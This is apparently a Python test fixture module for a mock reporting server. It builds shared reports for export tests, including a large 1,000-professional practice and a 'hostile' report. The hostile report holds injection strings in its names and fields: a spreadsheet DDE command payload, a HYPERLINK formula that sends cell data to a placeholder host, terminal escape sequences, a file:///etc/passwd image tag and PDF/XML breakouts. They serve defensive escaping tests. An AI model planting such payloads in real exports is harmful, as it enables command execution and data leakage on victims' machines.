"""Reports that the export tests share: the teaching practice's, a hostile one, one of the largest size."""

from collections.abc import Iterable
from dataclasses import replace
from datetime import datetime
from functools import cache

import msgspec

from client.messages.report import Fact, Report
from mock_server.clocks import EASTERN
from mock_server.flow.engines import RunFacts
from mock_server.flow.pqrs_2011 import Pqrs2011
from mock_server.reports.pqrs_2011 import Run, build_report
from mock_server.scenario import nation
from mock_server.scoring.pqrs.engine import score_practice
from mock_server.scoring.pqrs.record import Practice
from tests.mock_server.reports.samples import CLAIMS_FAILS_MAV, EHR_YES
from tests.mock_server.scoring.pqrs.builders import (
    ARTHRITIS,
    DIABETES,
    attempt,
    group,
    practice,
    professional,
)

RUN_AT = datetime(2018, 10, 1, 10, 0, tzinfo=EASTERN)
RUN = Run(id="run-1", created_at=RUN_AT, synthetic=True, facts=(Fact(label="Run on", value="2018-10-01"),))

TERMINAL = "\x1b]0;PWNED\x07\x1b[2J\x9b31m\x00\x7f\r\n\tend"
HOSTILE_NAMES = (
    "=1+1",
    '=HYPERLINK("http://host.invalid/?"&A1,"click")',
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "＝1+1",
    "'=1+1",
    "\t=1",
    'a","=1+1',
    'Smith, "Bob"',
    TERMINAL,
    "x\u202egnp.exe\u200b\ufeff\u2028",
    '<img src="file:///etc/passwd"/>',
    '<font color="#ff0000">red</font></para>',
    '<a href="http://host.invalid/">link</a>',
    "**bold** __under__ [link](http://host.invalid)",
    "<r><t>raw</t></r>",
    "<r></t></si></sst>&amp;</r>",
    "_x0041_ _x000D_",
    "ends in a backslash \\",
    ") Tj ET Q (",
    "{nb} &P &[Page] %s {0}",
    "[@click=app.quit]x[/] [bold",
    "A" + "\u0301" * 40,
    "Жанна Őz 李小龍 שלום 👩\u200d⚕️ ≥ 50 β",
    " ",
)


@cache
def teaching_report() -> Report:
    """The whole report of O-01, as a run of the portal makes it."""
    organization = nation.organization("O-01")
    assert organization is not None
    facts = RunFacts(
        "run-1", organization.row_text, RUN_AT, "demo.grouprep", "HIPAA Covered Entity (CE) provider"
    )
    return Pqrs2011().build(organization, facts)


def report_of(names: Iterable[str], tin_name: str | None = None) -> Report:
    """A report of professionals and their practice, under these names."""
    people = [
        replace(
            professional(CLAIMS_FAILS_MAV, EHR_YES, npi=str(1_200_000_000 + number), moc=number % 2 == 0),
            npi_name=name,
        )
        for number, name in enumerate(names)
    ]
    return build_report(score_practice(replace(practice(*people), tin_name=tin_name)), RUN)


LONG_NAMES = ("W" * 5000, "word " * 1000)
"""Longer than a page of the PDF takes in one row."""


@cache
def hostile_report() -> Report:
    """Hostile text wherever data can stand: names, facts, cautions, titles of sections and tables."""
    report = report_of(HOSTILE_NAMES, TERMINAL)
    facts = [Fact(label=name[:20], value=name) for name in HOSTILE_NAMES]
    return msgspec.structs.replace(report, facts=facts, cautions=list(HOSTILE_NAMES))


@cache
def largest_practice() -> Practice:
    """1,000 professionals, each with 4 methods."""
    tried = (
        attempt("IND-CLM-12", "1 120/66, 47 210/105, 110 88/40, 128 95/61, 226 140/69"),
        attempt("IND-REG-12", "31 77/63, 32 65/52, 35 90/73, 36 48/30"),
        attempt("MG30-REG-12", "", group(ARTHRITIS, "34/28"), group(DIABETES, "40/31")),
        attempt("MG80-REG-6", "", group(ARTHRITIS, "12/9")),
    )
    return practice(*(professional(*tried, npi=str(1_200_000_000 + i)) for i in range(1000)))


def largest_report() -> Report:
    """The report of that practice."""
    return build_report(score_practice(largest_practice()), RUN)


def one_table_report() -> Report:
    """A report that has one table id only."""
    report = report_of(["Ada Demo", "Bo Demo"])
    sections = [
        msgspec.structs.replace(part, tables=[table for table in part.tables if table.id == "T2-B"])
        for part in report.sections
    ]
    return msgspec.structs.replace(report, sections=sections)
